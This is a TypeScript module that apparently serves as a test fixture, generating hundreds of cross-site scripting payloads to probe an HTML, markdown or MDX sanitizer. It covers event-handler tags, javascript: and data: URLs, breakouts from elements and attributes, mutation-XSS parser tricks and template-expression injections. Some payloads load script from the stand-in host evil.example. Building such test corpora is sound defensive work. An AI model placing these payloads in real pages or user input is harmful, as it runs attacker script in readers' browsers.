import { readFileSync } from 'node:fs';

/** What runs when a wall falls: the browser tells of it, whoever calls. */
const RUN = 'alert(1)';

/** Elements that call a handler by themselves or when somebody comes near, with the attributes they need for it. */
const CALLERS: readonly (readonly [element: string, handler: string])[] = [
  ['img src=x', 'onerror'],
  ['img src=/', 'onload'],
  ['image src=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['script src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['iframe src=about:blank', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['svg', 'onload'],
  ['svg><g', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['style', 'onload'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus tabindex=1', 'onfocus'],
  ['div contenteditable autofocus', 'onfocus'],
  ['p', 'onmouseover'],
  ['p', 'onpointerenter'],
  ['b', 'onclick'],
  ['x', 'onclick'],
  ['dialog open', 'onclick'],
  ['p style=animation:x', 'onanimationstart'],
  ['input type=image src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['math', 'onclick'],
];

const HANDLED = CALLERS.flatMap(([element, handler]) => [
  `<${element} ${handler}=${RUN}>`,
  `<${element} ${handler}="${RUN}">a</${element.split(/[ >]/)[0] ?? ''}>`,
  `"><${element} ${handler}='${RUN}'//`,
  `<${element.toUpperCase()}/${handler}=${RUN}//`,
]);

/** Addresses that run something, or bring it. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript&colon;${RUN}`,
  `javascript://a.example/%0A${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `vbscript:${RUN}`,
  '//evil.example/a.js',
  'https://evil.example/a.js',
  '\\\\evil.example\\a.js',
];

const ADDRESSED = ADDRESSES.flatMap((address) => [
  `<a href="${address}">a</a>`,
  `<iframe src="${address}"></iframe>`,
  `<script src="${address}"></script>`,
  `<form action="${address}"><input type=submit></form>`,
  `<button form=f formaction="${address}">a</button><form id=f></form>`,
  `<object data="${address}"></object>`,
  `<img src="${address}">`,
  `<link rel=stylesheet href="${address}">`,
  `<meta http-equiv=refresh content="0;url=${address}">`,
  `<base href="${address}">`,
  `<svg><a xlink:href="${address}"><text y=9>a</text></a></svg>`,
  `<svg><use href="${address}#x"/></svg>`,
  `<math href="${address}">a</math>`,
  `<p style="background:url(${address})">a</p>`,
  `<style>@import "${address}";</style>`,
  `[a](${address})`,
  `[a](<${address}>)`,
  `![a](${address})`,
  `<${address}>`,
  `[a][b]\n\n[b]: ${address}`,
]);

/** Ways out of where words stand: another element's text, a comment, an attribute, a script. */
const DOORS = [
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</select>',
  '</table>',
  '</svg>',
  '</iframe>',
  '</xmp>',
  '-->',
  '--!>',
  ']]>',
  '"',
  "'",
  '`',
  '">',
  "'>",
  '<!--',
  '<![CDATA[',
  '<?',
  '%00',
  '\u0000',
  '\u2028',
];
const OUT = DOORS.flatMap((door) => [
  `${door}<script>${RUN}</script>`,
  `${door}<img src=x onerror=${RUN}>`,
  `${door} onmouseover=${RUN} `,
]);

/** Markup that one parser reads as words and the next, or the same one a second time, as elements. */
const TWICE = [
  'math><mtext><table><mglyph><style><!--',
  'math><mi><noscript><style>',
  'svg><style>',
  'svg><desc><noscript>',
  'svg><title><style>',
  'svg><foreignObject><math><mi>',
  'form><math><mtext></form><form><mglyph><style></math>',
  'noscript><p title="</noscript>',
  'select><template>',
  'table><caption><svg>',
  'template><s><template>',
  'xmp><p title="</xmp>',
  'iframe><p title="</iframe>',
  'math><annotation-xml encoding="text/html"><style>',
].flatMap((opening) => [
  `<${opening}<img src=x onerror=${RUN}>`,
  `<${opening}<img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
]);

/** What MDX and templates would run. */
const EXPRESSIONS = [
  `{${RUN}}`,
  `{(() => ${RUN})()}`,
  `{"".constructor.constructor("${RUN}")()}`,
  `export const a = ${RUN}`,
  `import "data:text/javascript,${RUN}"`,
  `<Callout kind="info" onClick={() => ${RUN}}>\n\na\n\n</Callout>`,
  `<Callout {...{ onclick: "${RUN}" }} kind="info">\n\na\n\n</Callout>`,
  `<Phrase it="a" dangerouslySetInnerHTML={{ __html: "<img src=x onerror=${RUN}>" }}>a</Phrase>`,
  `<script is:inline>${RUN}</script>`,
  `<Fragment set:html="<img src=x onerror=${RUN}>" />`,
  `<script type="module">${RUN}</script>`,
  `<script>${RUN}</script>`,
  `<script nonce="" integrity="">${RUN}</script>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
];

/** The Big List of Naughty Strings, as its package has it. */
const naughty = (): string[] =>
  // The package's own list of strings.
  JSON.parse(readFileSync('node_modules/big-list-of-naughty-strings/blns.json', 'utf8')) as string[];

/** Words that somebody may write to run something in a reader's browser, each once; those of our own come first. */
export function payloads(): string[] {
  const all = [...HANDLED, ...ADDRESSED, ...OUT, ...TWICE, ...EXPRESSIONS, ...naughty()];
  return [...new Set(all)].filter((text) => text !== '');
}

/** Payloads that run by themselves, or near a pointer, where nothing holds them: what must be seen to run. */
export const CONTROLS: readonly string[] = [...HANDLED.slice(0, 60), `<script>${RUN}</script>`];
